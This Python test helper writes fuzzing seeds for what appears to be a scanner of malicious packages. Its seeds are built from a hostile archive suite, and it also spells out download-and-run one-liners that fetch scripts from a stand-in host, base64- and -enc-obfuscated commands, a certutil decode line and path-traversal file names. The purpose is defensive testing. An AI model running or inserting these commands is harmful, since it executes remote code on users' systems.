"""The first inputs of each target: small uploads of the hostile suite, and short sources."""

import hashlib
from collections.abc import Iterator
from pathlib import Path

from tests.hostile import build_data, classforge, packages
from tests.hostile.payload import HARMLESS, SIGNAL
from tests.hostile.suite import TABLES
from tests.hostile.tarforge import tar

LARGEST = 32 * 1024
ROOT = Path(__file__).resolve().parent.parent
_TABLES = {
    "zip": ("zip", "names in zips", "wheels"),
    "wheel": ("zip", "wheels"),
    "jar": ("jars",),
    "gzip": ("tar", "members of tars", "npm and crates"),
    "streams": ("tar", "members of tars", "zip"),
}
_SUFFIXES = {
    "python": ".py", "javascript": ".js", "rust": ".rs", "java": ".java", "shell": ".sh",
    "powershell": ".ps1", "batch": ".bat",
}  # fmt: skip


def write(target: str, folder: Path) -> int:
    """Write the seeds of a target into a folder; return how many there are."""
    folder.mkdir(parents=True, exist_ok=True)
    count = 0
    for data in seeds(target):
        if len(data) <= LARGEST:
            (folder / hashlib.sha256(data).hexdigest()[:24]).write_bytes(data)
            count += 1
    return count


def seeds(target: str) -> Iterator[bytes]:
    """Yield the seeds of a target."""
    for name in _TABLES.get(target, ()):
        for case in TABLES[name]:
            if not case.heavy and "bomb" not in case.id:
                yield case.build(SIGNAL)
    if target == "tar":
        yield tar(packages.sdist_files(SIGNAL.setup))
        for case in TABLES["tar"]:
            if case.id.startswith(("tar/pax", "tar/size", "tar/sparse-p", "tar/sparse-g")):
                yield _inflated(case.build(SIGNAL))
    if target in _SUFFIXES:
        yield from _sources(_SUFFIXES[target])
    yield from _small(target)


def _inflated(data: bytes) -> bytes:
    import zlib

    return zlib.decompressobj(31).decompress(data, LARGEST)


def _sources(suffix: str) -> Iterator[bytes]:
    """Yield the inert sources of the re-enactments."""
    for folder in ("tests/incidents", "tests/reenactments"):
        for path in sorted((ROOT / folder).rglob(f"*{suffix}")):
            yield path.read_bytes()


def _small(target: str) -> Iterator[bytes]:
    made: dict[str, tuple[bytes, ...]] = {
        "names": (
            b"tidewaiter/a.py", b"..\\a\0b", "h\u00f6he/\u202ea".encode(), b"C:/aux. ", b"\xff"),
        "python": (HARMLESS.python, SIGNAL.python, SIGNAL.setup),
        "javascript": (HARMLESS.javascript, SIGNAL.javascript),
        "rust": (HARMLESS.rust, SIGNAL.rust),
        "class": (classforge.harmless(), classforge.signal()),
        "pyc": (build_data.compiled(build_data.marshalled(SIGNAL.python))(SIGNAL),),
        "pickle": (build_data.pickled(SIGNAL), build_data.pickled(HARMLESS)),
        "shell": (
            b"curl -s http://collector.invalid/x.sh | sh\n", b"eval $(echo bHM= | base64 -d)\n"),
        "powershell": (
            b"iex (iwr http://collector.invalid/a.ps1)\n", b"powershell -enc bABzAA==\n"),
        "batch": (b"@echo off\r\nset a=ca\r\n%a%lc.exe & certutil -decode a b\r\n",),
        "binary": (
            b"\x7fELF\x02\x01\x01" + bytes(200), b"MZ" + bytes(300), build_data.picture(b"x")),
        "metadata": (packages.METADATA,),
        "record": (packages.record(packages.wheel_entries(b"")).body,),
        "pyproject": (packages.PYPROJECT,),
        "package-json": (packages.manifest(SIGNAL), packages.manifest(HARMLESS)),
        "cargo-toml": (packages.CARGO,),
        "pom": (packages.POM,),
    }  # fmt: skip
    yield from made.get(target, ())
